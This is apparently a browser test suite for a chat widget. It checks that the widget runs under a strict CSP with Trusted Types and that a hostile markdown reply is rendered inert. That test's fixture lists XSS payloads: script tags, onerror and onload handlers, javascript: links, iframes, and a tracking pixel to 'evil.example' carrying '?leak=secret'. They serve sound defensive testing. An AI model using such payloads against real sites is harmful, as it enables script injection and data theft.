// README, "Content Security Policy and Trusted Types": under a strict CSP with Trusted Types enforced, sent as a real
// HTTP header, the widget works end to end and causes zero `securitypolicyviolation` events. Page scripts are
// external files from 'self' (no inline script is allowed). Runs in Chromium, Firefox and WebKit
// (test/browser/engines).
import { describe, expect, it } from 'vitest';
import { completionChunks, doneFrame, encodeFrame, namedFrame, wordPieces } from '../../mock/sse';
import { apiRequests, cannedAnswer, openPage, problems, passTime, STRICT_CSP, type WidgetPage } from './engines';

async function expectCleanRun(wp: WidgetPage): Promise<void> {
  await passTime(wp.page);
  expect(await wp.violations()).toEqual([]);
  expect((await wp.consoleMessages()).filter((m) => m.type === 'error')).toEqual([]);
  expect(await problems(wp)).toEqual([]);
  const names = await wp.policies();
  expect(names.filter((n) => n !== 'service-widget' && n !== 'dompurify')).toEqual([]);
  expect(names.filter((n) => n === 'service-widget').length).toBeLessThanOrEqual(1);
}

describe('strict CSP with Trusted Types', () => {
  it('the page really enforces the policy (sanity check of the test setup)', async () => {
    const wp = await openPage({ csp: STRICT_CSP, autoInit: false });
    const blocked = await wp.page.evaluate(() => {
      const results: string[] = [];
      try {
        document.createElement('div').innerHTML = '<b>x</b>';
        results.push('innerHTML allowed');
      } catch (e) {
        results.push((e as Error).name);
      }
      return results;
    });
    expect(blocked).toEqual(['TypeError']);
    await expect.poll(async () => (await wp.violations()).length).toBeGreaterThan(0);
    expect((await wp.violations())[0]?.directive).toBe('require-trusted-types-for');
  });

  it('open, send, a markdown reply with a table, history, reopening a conversation: zero violations', async () => {
    const wp = await openPage({
      csp: STRICT_CSP,
      sub: 'demo-csp-visitor', // a seeded visitor: 45 past conversations
      initOptions: { locale: 'en' },
    });
    await wp.openPanel();
    await wp.send('How many orders did we get last week?');
    const reply = await wp.waitForReplies(1);
    expect(await reply.locator('strong').first().textContent()).toBe('42');
    expect(await reply.locator('table tbody tr').count()).toBe(3);

    // History: first page, next page, then reopen a conversation with a long markdown answer.
    await wp.part('history-button').click();
    await wp.part('history-list').waitFor();
    await expect.poll(() => wp.part('history-item').count()).toBeGreaterThanOrEqual(20);
    await wp.part('history-more-button').click();
    await expect.poll(() => wp.part('history-item').count()).toBeGreaterThan(20);
    await wp.part('history-item').filter({ hasText: 'Regional sales report' }).click();
    // The reopened conversation replaces the one just had (whose reply has a table too).
    await expect.poll(async () => (await apiRequests()).some((r) => /\/conversations\/conv_/.test(r.path))).toBe(true);
    await wp.host
      .locator('[part~="message"][data-role="user"]', { hasText: 'How many orders did we get last week?' })
      .waitFor({ state: 'detached' });
    const long = wp.host.locator('[part~="message"][data-role="assistant"]').first();
    await long.locator('table').first().waitFor();

    expect(
      (await apiRequests()).map((r) => r.path.replace(/conv_\w+/, 'conv_*').replace(/cursor=[^&]+/, 'cursor=*')),
    ).toEqual([
      '/api/v1/widget/config',
      '/api/v1/widget/chat',
      '/api/v1/widget/conversations?limit=20',
      '/api/v1/widget/conversations?limit=20&cursor=*',
      '/api/v1/widget/conversations/conv_*',
    ]);
    await expectCleanRun(wp);
  });

  it('a hostile markdown reply is rendered inert: safe links only, no image load, no script, zero violations', async () => {
    const HOSTILE = [
      'See [the docs](https://example.com/docs?a=1&b=2) or write to <mailto:help@example.com>.',
      '',
      '<img src="https://evil.example/img.png" onerror="window.__pwned = 1">',
      '',
      '<script>window.__pwned = 2</script>',
      '',
      '<iframe src="https://evil.example/frame"></iframe>',
      '',
      'A [js link](javascript:window.__pwned=3) and a [data link](data:text/html,hi).',
      '',
      '![tracking pixel](https://evil.example/pixel.png?leak=secret)',
      '',
      'Inline <a href="https://evil.example/raw" onclick="window.__pwned=4">raw anchor</a> and <svg onload="window.__pwned=5"></svg>.',
      '',
      '<style>* { display: none !important }</style>',
      '',
      '| Name | Link |',
      '|---|---|',
      '| Docs | [open](https://example.com/table) |',
      '| Bad | [x](javascript:alert(1)) |',
    ].join('\n');

    // The mock's answers are fixed: this one reply comes from the test instead (same origin, same CSP).
    const c = completionChunks();
    const frames = [
      c.role(),
      ...c.contents(wordPieces(HOSTILE, 3)),
      namedFrame('conversation', { id: 'conv_hostile', title: 'Hostile' }),
      c.finish('stop'),
      doneFrame,
    ];
    const wp = await openPage({ csp: STRICT_CSP });
    await cannedAnswer('/api/v1/widget/chat', {
      headers: { 'Content-Type': 'text/event-stream; charset=utf-8', 'X-Conversation-Id': 'conv_hostile' },
      body: frames.map((f) => encodeFrame(f)).join(''),
    });
    await wp.openPanel();
    await wp.send('Show me something');
    const reply = await wp.waitForReplies(1);
    await reply.locator('table').waitFor();

    const dom = await reply.evaluate((el) => ({
      forbidden: Array.from(
        el.querySelectorAll('img, script, iframe, svg, style, form, input, object, embed, video, audio'),
      ).map((e) => e.tagName),
      links: Array.from(el.querySelectorAll('a')).map((a) => ({
        text: a.textContent,
        href: a.getAttribute('href'),
        target: a.getAttribute('target'),
        rel: a.getAttribute('rel'),
        attrs: a.getAttributeNames().sort(),
      })),
      withHandlers: Array.from(el.querySelectorAll('*')).filter((e) =>
        e.getAttributeNames().some((n) => n.startsWith('on')),
      ).length,
      text: el.textContent ?? '',
    }));
    expect(dom.forbidden).toEqual([]);
    expect(dom.withHandlers).toBe(0);
    for (const link of dom.links) {
      expect(link.href).toMatch(/^(https?:|mailto:)/);
      expect(link.target).toBe('_blank');
      expect(link.rel).toBe('noopener noreferrer');
      expect(link.attrs).toEqual(['href', 'rel', 'target']);
    }
    const byText = Object.fromEntries(dom.links.map((l) => [l.text, l.href]));
    expect(byText['the docs']).toBe('https://example.com/docs?a=1&b=2');
    expect(byText['mailto:help@example.com']).toBe('mailto:help@example.com');
    expect(byText['open']).toBe('https://example.com/table');
    // The image is offered as a link, never loaded.
    expect(byText['tracking pixel']).toBe('https://evil.example/pixel.png?leak=secret');
    // Unsafe links lose their link, keep their text.
    expect(dom.links.some((l) => l.text === 'js link' || l.text === 'data link' || l.text === 'x')).toBe(false);
    expect(dom.text).toContain('js link');
    // Raw HTML shows as text (a raw <a> included: it is no link).
    expect(dom.text).toContain('<script>window.__pwned = 2</script>');
    expect(dom.text).toContain('<a href="https://evil.example/raw"');
    expect(dom.links).toHaveLength(4);

    await passTime(wp.page);
    expect(await wp.page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
    expect(await wp.dialogs()).toEqual([]);
    expect((await wp.requestedUrls()).filter((url) => url.includes('evil.example'))).toEqual([]);
    await expectCleanRun(wp);
  });
});
